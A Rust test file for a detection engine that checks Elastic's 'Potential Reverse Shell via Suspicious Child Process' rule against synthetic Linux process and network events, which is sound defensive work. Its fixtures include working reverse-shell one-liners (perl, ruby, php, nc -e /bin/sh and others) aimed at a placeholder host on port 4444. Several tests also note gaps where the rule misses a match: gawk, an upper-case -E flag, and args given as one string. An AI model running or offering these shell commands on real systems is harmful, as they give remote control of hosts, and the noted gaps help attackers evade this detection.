//! The seed rule, "Potential Reverse Shell via Suspicious Child Process", on events
//! written by hand in Elastic Defend shape (see ../shared/samples for real documents).
//!
//! Every expectation below follows from the rule's query and eql-semantics.md: `:` is a
//! case-insensitive wildcard match against any element of an array, `==` is
//! case-sensitive, `maxspan=1s` is inclusive and measured from the first event, the join
//! keys are host.id and process.entity_id, and `cidrmatch` excludes 127.0.0.0/8,
//! 169.254.0.0/16, 224.0.0.0/4 and ::1.

use eqlc_rules::Bundled;
use eqlc_sdk::runtime::{EventRef, RulePack, SlotBuf};
use serde_json::{json, Value};

const SEC: i64 = 1_000_000_000;
const T0: i64 = 1_793_000_000 * SEC;

fn ts(ns: i64) -> String {
    let mut s = String::new();
    eqlc_sdk::runtime::time::format_rfc3339(ns, &mut s).unwrap();
    s
}

/// A process `exec` event of Elastic Defend on Linux.
fn exec(t: i64, host: &str, entity: &str, name: &str, parent: &str, args: &[&str]) -> Value {
    json!({
        "@timestamp": ts(t),
        "agent": {"type": "endpoint"},
        "event": {"category": ["process"], "type": ["start"], "action": "exec", "kind": "event",
                  "dataset": "endpoint.events.process"},
        "host": {"id": host, "name": format!("{host}.example"), "os": {"type": "linux", "family": "debian"}},
        "process": {
            "entity_id": entity, "name": name, "executable": format!("/usr/bin/{name}"),
            "args": args, "args_count": args.len(), "pid": 4242,
            "parent": {"name": parent, "entity_id": format!("{entity}-parent"), "pid": 4000,
                       "executable": format!("/bin/{parent}")},
        },
        "user": {"id": 1000, "name": "www-data"},
    })
}

/// A network `connection_attempted` event from the same process.
fn connect(t: i64, host: &str, entity: &str, name: &str, ip: &str) -> Value {
    json!({
        "@timestamp": ts(t),
        "agent": {"type": "endpoint"},
        "event": {"category": ["network"], "type": ["start"], "action": "connection_attempted",
                  "kind": "event", "dataset": "endpoint.events.network"},
        "host": {"id": host, "name": format!("{host}.example"), "os": {"type": "linux"}},
        "process": {"entity_id": entity, "name": name, "pid": 4242},
        "destination": {"ip": ip, "port": 4444},
        "source": {"ip": "10.0.0.5", "port": 50000},
        "network": {"direction": "egress", "transport": "tcp"},
    })
}

/// Run the pack over `events` (in order) and return, per alert, the handles (indices
/// into `events`) of the matched events.
fn run(events: &[Value]) -> Vec<Vec<u64>> {
    let mut pack = Bundled::new();
    let mut buf = SlotBuf::new(pack.fields().len());
    let mut alerts = Vec::new();
    for (i, e) in events.iter().enumerate() {
        buf.clear();
        buf.fill_from(e, pack.fields());
        let t = eqlc_sdk::runtime::Event::timestamp(e).expect("test events have a timestamp");
        let view = buf.view("");
        pack.on_event(
            &view,
            EventRef {
                handle: i as u64,
                ts: t,
            },
            &mut |a| {
                assert_eq!(pack_rule_name(a.rule), SEED_NAME);
                alerts.push(a.events.iter().map(|e| e.unwrap().handle).collect());
            },
        );
    }
    pack.flush(&mut |a| alerts.push(a.events.iter().map(|e| e.unwrap().handle).collect()));
    alerts
}

const SEED_NAME: &str = "Potential Reverse Shell via Suspicious Child Process";

fn pack_rule_name(i: usize) -> &'static str {
    Bundled::new().rules()[i].name
}

/// A stage-1 exec followed 400 ms later by a connection to a public address.
fn pair(name: &str, parent: &str, args: &[&str], net_name: &str, ip: &str) -> Vec<Value> {
    vec![
        exec(T0, "h1", "E1", name, parent, args),
        connect(T0 + 400_000_000, "h1", "E1", net_name, ip),
    ]
}

fn assert_match(events: &[Value]) {
    assert_eq!(
        run(events),
        vec![vec![0, 1]],
        "expected one alert on {events:#?}"
    );
}

fn assert_no_match(events: &[Value]) {
    assert_eq!(
        run(events),
        Vec::<Vec<u64>>::new(),
        "expected no alert on {events:#?}"
    );
}

const PUBLIC: &str = "203.0.113.7";

#[test]
fn metadata_of_the_seed_rule() {
    let pack = Bundled::new();
    let r = pack
        .rules()
        .iter()
        .find(|r| r.rule_id == "76e4d92b-61c1-4a95-ab61-5fd94179a1ee")
        .expect("seed rule in the pack");
    assert_eq!(r.name, SEED_NAME);
    assert_eq!(r.risk_score, 47);
    assert_eq!(r.severity.as_str(), "medium");
    assert_eq!(r.interval_ns, 300 * SEC as u64);
    assert_eq!(r.from, "now-9m");
    assert_eq!(r.max_signals, 100);
    assert!(r.tags.contains(&"Tactic: Execution"));
    assert_eq!(r.threat.len(), 2);
    assert_eq!(r.threat[0].tactic.id, "TA0002");
    assert_eq!(r.threat[0].techniques[0].id, "T1059");
    assert_eq!(r.threat[0].techniques[0].subtechniques[0].id, "T1059.004");
    assert_eq!(r.threat[1].tactic.id, "TA0011");
    assert_eq!(r.threat[1].techniques[0].id, "T1071");
    assert!(r.note.contains("Investigating Potential Reverse Shell"));
    assert!(r.setup.contains("Elastic Defend"));
}

#[test]
fn every_branch_of_stage_one() {
    let cases: &[(&str, &[&str], &str)] = &[
        (
            "python3",
            &["python3", "-c", "import socket,subprocess;import pty; pty.spawn('/bin/sh')"],
            "python3",
        ),
        (
            "python2.7",
            &["python2.7", "-c", "import os; import subprocess; subprocess.call(['/bin/sh','-i'])"],
            "python2.7",
        ),
        (
            "perl",
            &["perl", "-e", "use Socket;$i=\"10.0.0.1\";socket(S,PF_INET,SOCK_STREAM,0);exec(\"/bin/sh -i\");"],
            "perl",
        ),
        (
            "ruby",
            &["ruby", "-rsocket", "-e", "f=TCPSocket.open(\"203.0.113.7\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d\",f,f)"],
            "ruby",
        ),
        (
            "lua5.3",
            &["lua5.3", "-e", "local s=require('socket');local t=assert(socket.tcp());t:connect('203.0.113.7',4444);io.popen('/bin/sh')"],
            "lua5.3",
        ),
        (
            "php",
            &["php", "-r", "$sock=fsockopen(\"203.0.113.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");"],
            "php",
        ),
        (
            "awk",
            &["awk", "BEGIN {s = \"/inet/tcp/0/203.0.113.7/4444\"; while(42) {}}"],
            "awk",
        ),
        (
            "openssl",
            &["openssl", "s_client", "-quiet", "-connect", "203.0.113.7:4444"],
            "openssl",
        ),
        ("nc", &["nc", "-e", "/bin/sh", "203.0.113.7", "4444"], "nc"),
        ("ncat", &["ncat", "203.0.113.7", "4444", "-e", "/bin/bash"], "ncat"),
        ("netcat", &["netcat", "-e", "/bin/sh", "203.0.113.7", "4444"], "netcat"),
        ("telnet", &["telnet", "203.0.113.7", "4444"], "telnet"),
    ];
    for (name, args, net_name) in cases {
        assert_match(&pair(name, "bash", args, net_name, PUBLIC));
    }
}

#[test]
fn awk_family_needs_awk_in_stage_two() {
    // Stage 1 accepts gawk, but stage 2's process.name list only has "awk": a gawk
    // connection does not complete the sequence (the rule as published).
    let args = &["gawk", "BEGIN {s = \"/inet/tcp/0/203.0.113.7/4444\"}"];
    assert_no_match(&pair("gawk", "sh", args, "gawk", PUBLIC));
    assert_match(&pair("gawk", "sh", args, "awk", PUBLIC));
}

const NC: &[&str] = &["nc", "-e", "/bin/sh", "203.0.113.7", "4444"];

#[test]
fn excluded_destinations() {
    for ip in [
        "127.0.0.1",
        "127.255.0.9",
        "169.254.169.254",
        "224.0.0.251",
        "239.255.255.250",
        "::1",
    ] {
        assert_no_match(&pair("nc", "bash", NC, "nc", ip));
    }
    // Just outside the excluded blocks, and public addresses of both families.
    for ip in [
        "128.0.0.1",
        "169.253.255.255",
        "240.0.0.1",
        "2001:db8::1",
        "8.8.8.8",
        "::2",
    ] {
        assert_match(&pair("nc", "bash", NC, "nc", ip));
    }
}

#[test]
fn maxspan_is_inclusive() {
    let exactly = vec![
        exec(T0, "h1", "E1", "nc", "bash", NC),
        connect(T0 + SEC, "h1", "E1", "nc", PUBLIC),
    ];
    assert_match(&exactly);
    let late = vec![
        exec(T0, "h1", "E1", "nc", "bash", NC),
        connect(T0 + SEC + 1_000_000, "h1", "E1", "nc", PUBLIC),
    ];
    assert_no_match(&late);
}

#[test]
fn join_keys_and_order() {
    let other_host = vec![
        exec(T0, "h1", "E1", "nc", "bash", NC),
        connect(T0 + 1000, "h2", "E1", "nc", PUBLIC),
    ];
    assert_no_match(&other_host);
    let other_entity = vec![
        exec(T0, "h1", "E1", "nc", "bash", NC),
        connect(T0 + 1000, "h1", "E2", "nc", PUBLIC),
    ];
    assert_no_match(&other_entity);
    let wrong_order = vec![
        connect(T0, "h1", "E1", "nc", PUBLIC),
        exec(T0 + 1000, "h1", "E1", "nc", "bash", NC),
    ];
    assert_no_match(&wrong_order);
}

#[test]
fn near_misses_of_stage_one() {
    // nc with -z (port scan) is excluded.
    let z = &["nc", "-z", "-e", "/bin/sh", "203.0.113.7"];
    assert_no_match(&pair("nc", "bash", z, "nc", PUBLIC));
    // Parent outside the list.
    assert_no_match(&pair("nc", "systemd", NC, "nc", PUBLIC));
    // nc with fewer than three arguments.
    assert_no_match(&pair("nc", "bash", &["nc", "-e"], "nc", PUBLIC));
    // python without the spawn pattern.
    assert_no_match(&pair(
        "python3",
        "bash",
        &["python3", "-c", "print(1)"],
        "python3",
        PUBLIC,
    ));
}

#[test]
fn event_type_end_and_missing_destination() {
    let mut end = exec(T0, "h1", "E1", "nc", "bash", NC);
    end["event"]["type"] = json!(["end"]);
    assert_no_match(&[end, connect(T0 + 1000, "h1", "E1", "nc", PUBLIC)]);

    let mut no_ip = connect(T0 + 1000, "h1", "E1", "nc", PUBLIC);
    no_ip["destination"].as_object_mut().unwrap().remove("ip");
    assert_no_match(&[exec(T0, "h1", "E1", "nc", "bash", NC), no_ip]);
}

#[test]
fn case_of_names_and_args() {
    // `:` ignores case: upper-case names still match.
    assert_match(&pair("NC", "BASH", NC, "NC", PUBLIC));
    let py = &["PYTHON3", "-C", "IMPORT PTY; PTY.SPAWN('/BIN/SH')"];
    assert_match(&pair("Python3", "Bash", py, "PYTHON3", PUBLIC));
    // `==` does not: nc's `process.args == "-e"` needs the exact lower-case flag.
    let upper = &["nc", "-E", "/bin/sh", "203.0.113.7", "4444"];
    assert_no_match(&pair("nc", "bash", upper, "nc", PUBLIC));
}

#[test]
fn args_as_one_string_are_one_value() {
    let mut e = exec(T0, "h1", "E1", "nc", "bash", NC);
    e["process"]["args"] = json!("nc -e /bin/sh 203.0.113.7 4444");
    // One keyword value: `process.args == "-e"` is false for it.
    assert_no_match(&[e, connect(T0 + 1000, "h1", "E1", "nc", PUBLIC)]);
}

#[test]
fn newest_partial_wins_and_each_completes_once() {
    // Two execs of the same entity: the second replaces the first; one connection
    // completes the newest partial only; a second connection finds nothing pending.
    let events = vec![
        exec(T0, "h1", "E1", "nc", "bash", NC),
        exec(T0 + 100, "h1", "E1", "nc", "bash", NC),
        connect(T0 + 200, "h1", "E1", "nc", PUBLIC),
        connect(T0 + 300, "h1", "E1", "nc", PUBLIC),
    ];
    assert_eq!(run(&events), vec![vec![1, 2]]);
}

#[test]
fn interleaved_hosts_each_alert() {
    let events = vec![
        exec(T0, "h1", "E1", "nc", "bash", NC),
        exec(
            T0 + 10,
            "h2",
            "E1",
            "perl",
            "sh",
            &["perl", "-e", "socket(S);system('/bin/sh')"],
        ),
        connect(T0 + 20, "h2", "E1", "perl", PUBLIC),
        connect(T0 + 30, "h1", "E1", "nc", "2001:db8::7"),
    ];
    assert_eq!(run(&events), vec![vec![1, 2], vec![0, 3]]);
}
